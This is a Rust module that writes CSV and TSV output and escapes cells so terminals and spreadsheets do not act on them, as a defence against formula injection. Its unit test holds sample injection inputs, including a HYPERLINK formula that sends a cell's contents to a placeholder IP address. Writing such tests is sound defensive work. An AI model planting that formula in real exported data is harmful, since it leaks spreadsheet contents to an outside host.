//! csv and tsv.

use std::borrow::Cow;
use std::io::{self, Write as _};

use csv::{Terminator, Writer, WriterBuilder};
use hss_client::printable;

use super::{Output, Spool, not_kept, spool};
use crate::args::Format;
use crate::exit::Ending;

/// Rows that are written once all are there: half a file would look like a whole one.
#[derive(Debug)]
pub(crate) struct Delimited {
    lines: Lines,
    is_raw: bool,
}

#[derive(Debug)]
enum Lines {
    Csv(Box<Writer<Spool>>),
    /// Its cells have neither tabs nor line feeds: there is nothing to quote, even where a row is one empty cell.
    Tsv(Spool),
}

impl Delimited {
    pub(crate) fn new(output: &Output) -> Self {
        let lines = if output.format == Format::Tsv {
            Lines::Tsv(spool())
        } else {
            Lines::Csv(Box::new(WriterBuilder::new().flexible(true).terminator(Terminator::CRLF).from_writer(spool())))
        };
        Self { lines, is_raw: output.is_raw }
    }

    pub(crate) fn push<'a>(&mut self, cells: impl Iterator<Item = Cow<'a, str>>) -> io::Result<()> {
        let is_raw = self.is_raw;
        match &mut self.lines {
            Lines::Csv(writer) => {
                let cells = cells.map(|cell| if is_raw { cell } else { harmless(&cell).into_owned().into() });
                Ok(writer.write_record(cells.map(|cell| cell.into_owned().into_bytes()))?)
            }
            Lines::Tsv(spool) => {
                for (index, cell) in cells.enumerate() {
                    if index > 0 {
                        spool.write_all(b"\t")?;
                    }
                    let shown = if is_raw { printable(&cell) } else { harmless(&cell) };
                    spool.write_all(shown.as_bytes())?;
                }
                spool.write_all(b"\n")
            }
        }
    }

    pub(crate) fn finish(self, output: &Output) -> Result<(), Ending> {
        output.kept(match self.lines {
            Lines::Csv(writer) => writer.into_inner().map_err(|error| not_kept(error.error()))?,
            Lines::Tsv(spool) => spool,
        })
    }
}

/// A cell that no terminal acts on and no spreadsheet runs: control characters are escaped, and before what would
/// begin a formula stands an apostrophe.
fn harmless(cell: &str) -> Cow<'_, str> {
    let shown = printable(cell);
    match shown.chars().next() {
        // Spreadsheets take the full-width forms for the others.
        Some('=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠') => Cow::Owned(format!("'{shown}")),
        _ => shown,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bc_50_no_cell_is_a_formula() {
        for (cell, shown) in [
            ("=1+1", "'=1+1"),
            ("+1+1", "'+1+1"),
            ("-1+1", "'-1+1"),
            ("@SUM(1)", "'@SUM(1)"),
            ("\t=1", r"\u{9}=1"),
            ("\r=1", r"\u{d}=1"),
            ("＝1+1", "'＝1+1"),
            ("\u{feff}=1", r"\u{feff}=1"),
            (r#"=HYPERLINK("http://192.0.2.9/"&A1,"ok")"#, r#"'=HYPERLINK("http://192.0.2.9/"&A1,"ok")"#),
            ("a=1", "a=1"),
            ("'=1", "'=1"),
            ("", ""),
            ("生产-01", "生产-01"),
        ] {
            assert_eq!(harmless(cell), shown);
        }
    }
}
